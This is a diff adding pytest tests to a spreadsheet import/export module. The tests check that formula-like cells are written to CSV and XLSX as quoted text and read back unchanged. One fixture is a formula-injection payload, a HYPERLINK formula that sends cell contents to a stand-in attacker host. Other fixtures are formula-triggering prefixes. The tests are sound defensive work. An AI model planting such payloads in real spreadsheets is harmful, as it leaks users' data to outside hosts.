@@ -158,3 +158,47 @@ def test_too_many_rows_or_bytes(settings):
     settings.IMPORT_MAX_UPLOAD_BYTES = 2048
     with pytest.raises(ImportFileError, match="^The file is 3 kB; one import takes at most 2 kB. Split it"):
         read_table("p.csv", data + b"x" * 3000)
+
+
+# Formulas ---------------------------------------------------------------------------------------
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+FORMULAS = [HYPERLINK, "+1+1", "-1+1", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1", "'=1+1", "''@x"]
+
+
+def lf(text):
+    return text.replace("\r", "\n")
+
+
+def test_an_xlsx_the_registry_writes_holds_no_formula_only_quoted_text_and_numbers():
+    rows = [["m", text, -5] for text in FORMULAS]
+    data = import_files.xlsx_bytes("meetings", ["slug", "title", "number"], rows, described=[["a"], [HYPERLINK]])
+    workbook = openpyxl.load_workbook(io.BytesIO(data))
+    sheet = workbook["meetings"]
+    titles = [row[1] for row in sheet.iter_rows(min_row=2)]
+    # An .xlsx file holds a carriage return as a line feed (XML reads it so).
+    assert [(cell.value, cell.data_type) for cell in titles] == [("'" + lf(text), "s") for text in FORMULAS]
+    assert {(row[2].value, row[2].data_type) for row in sheet.iter_rows(min_row=2)} == {(-5, "n")}
+    assert [(cell.value, cell.data_type) for cell in workbook["Columns"]["A"]] == [("a", "s"), ("'" + HYPERLINK, "s")]
+
+
+@pytest.mark.parametrize("extension", ["csv", "xlsx"])
+def test_a_cell_quoted_against_formulas_is_read_as_the_text_it_was(extension):
+    cells = ["'" + HYPERLINK, "''=1+1", "'@x", "'plain", "'", "a'=b"]
+    rows = [["slug", "title"], *[[f"m{n}", cell] for n, cell in enumerate(cells)]]
+    data = make_csv(rows) if extension == "csv" else xlsx_of(rows)
+    table = read_table(f"meetings.{extension}", data)
+    assert [cells[1] for _number, cells in table.rows] == [HYPERLINK, "'=1+1", "@x", "'plain", "'", "a'=b"]
+
+
+def test_the_csv_and_xlsx_the_registry_writes_read_back_as_every_text_was():
+    texts = [*FORMULAS, "'plain", "'", "a=b", "'\t'=x"]
+    rows = [[f"m{n}", text, 5] for n, text in enumerate(texts)]
+    for name, data, same in [
+        ("meetings.csv", import_files.csv_bytes(["slug", "title", "number"], rows), str),
+        ("meetings.xlsx", import_files.xlsx_bytes("meetings", ["slug", "title", "number"], rows), lf),
+    ]:
+        table = read_table(name, data)
+        assert table.headers == ("slug", "title", "number")
+        expected = [[f"m{n}", same(text), "5"] for n, text in enumerate(texts)]
+        assert [list(cells) for _number, cells in table.rows] == expected
